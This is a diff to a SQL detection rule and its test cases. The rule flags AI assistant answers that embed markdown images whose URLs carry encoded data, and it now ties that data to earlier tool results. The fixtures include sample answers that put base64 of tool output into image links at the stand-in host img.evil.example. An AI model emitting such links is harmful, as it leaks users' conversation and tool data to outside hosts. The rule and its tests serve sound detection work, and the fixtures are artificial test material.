@@ -18,6 +18,7 @@
 -- tags = ["owasp-asi:2026:ASI01", "owasp-llm:2025:LLM05", "atlas:AML.T0077"]
 -- [params]
 -- pattern = "!\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
+-- run = 4
 -- [[case]]
 -- name = "an image with a long value"
 -- messages = [
@@ -115,11 +116,98 @@
 --   { subject = "img.evil.example", evidence = ["e#4"] },
 --   { subject = "img.evil.example", evidence = ["e#6"] },
 -- ]
+-- [[case]]
+-- name = "the address holds what a tool had returned"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", severity = "high", confidence = "high" },
+-- ]
+-- [[case]]
+-- name = "what the user had typed is theirs"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "user", kind = "text", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", severity = "high", confidence = "medium" },
+-- ]
+-- [[case]]
+-- name = "returned only afterwards"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "tool", kind = "tool_result", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { confidence = "medium" },
+-- ]
+-- [[case]]
+-- name = "returned in another conversation"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "d", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { confidence = "medium" },
+-- ]
+-- [[case]]
+-- name = "a tool had returned something else"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "nothing of the kind stands here at all", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { confidence = "medium" },
+-- ]
+-- [[case]]
+-- name = "a host that the organisation knows"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- call_destinations = [ { call_uid = "c1", destination = "evil.example", novelty = "known", says = "x" } ]
+-- expect = [
+--   { severity = "low", confidence = "low" },
+-- ]
+-- [[case]]
+-- name = "a host that was used once"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- call_destinations = [ { call_uid = "c1", destination = "evil.example", novelty = "seen", says = "x" } ]
+-- expect = [
+--   { severity = "high", confidence = "medium" },
+-- ]
+-- [[case]]
+-- name = "another host that the organisation knows"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- call_destinations = [ { call_uid = "c1", destination = "il.example", novelty = "listed", says = "x" } ]
+-- expect = [
+--   { severity = "high", confidence = "medium" },
+-- ]
 -- +++
-WITH links AS (
+WITH found AS (
   SELECT m.*, regexp_match(m.text, $pattern)[1] AS address
   FROM messages m
   WHERE m.role = 'assistant' AND m.kind = 'text' AND regexp_like(m.text, $pattern)
+),
+links AS (
+  SELECT *, lower(regexp_replace(regexp_replace(address, '^https?://', ''), '[/?#:].*', '')) AS host FROM found
+),
+carried AS (
+  -- What stands encoded in the address is what a tool had returned.
+  SELECT DISTINCT l.message_id
+  FROM links l
+  JOIN messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
+  WHERE m.role = 'tool' AND shared_words(decoded(l.address), m.text, $run) > 0
+),
+familiar AS (
+  SELECT DISTINCT l.host
+  FROM links l
+  JOIN call_destinations d ON d.novelty IN ('listed', 'known') AND ends_with('.' || l.host, '.' || d.destination)
 ),
 known AS (
   -- An address that the user, the system prompt or a result showed whole was only passed on.
@@ -129,8 +217,11 @@ known AS (
   WHERE m.role <> 'assistant' AND strpos(m.text, l.address) > 0
 )
 SELECT
-  regexp_replace(regexp_replace(l.address, '^https?://', ''), '[/?#].*', '') AS subject,
-  'An answer to ' || l.login || ' shows an image whose address carries data: ' || defang(left(l.address, 160)) || '; whoever displays it sends that data out.' AS reason,
+  l.host AS subject,
+  'An answer to ' || l.login || ' shows an image whose address carries data: ' || defang(left(l.address, 160))
+    || CASE WHEN c.message_id IS NOT NULL THEN '; decoded, it holds words that a tool had returned' ELSE '' END
+    || CASE WHEN f.host IS NOT NULL THEN '; the organisation knows that host' ELSE '' END
+    || '; whoever displays it sends that data out.' AS reason,
   l.time AS first_seen,
   l.time AS last_seen,
   CAST(1 AS BIGINT) AS count,
@@ -138,8 +229,12 @@ SELECT
   l.login,
   l.device,
   l.message_id AS key,
+  CASE WHEN f.host IS NOT NULL THEN 'low' ELSE 'high' END AS severity,
+  CASE WHEN f.host IS NOT NULL THEN 'low' WHEN c.message_id IS NOT NULL THEN 'high' ELSE 'medium' END AS confidence,
   make_array(evidence(l.export_key, l.record_id)) AS evidence
 FROM links l
+LEFT JOIN carried c ON c.message_id = l.message_id
+LEFT JOIN familiar f ON f.host = l.host
 LEFT JOIN known k ON k.message_id = l.message_id
 WHERE k.message_id IS NULL
 ORDER BY l.session_id, l.position, l.part, l.message_id
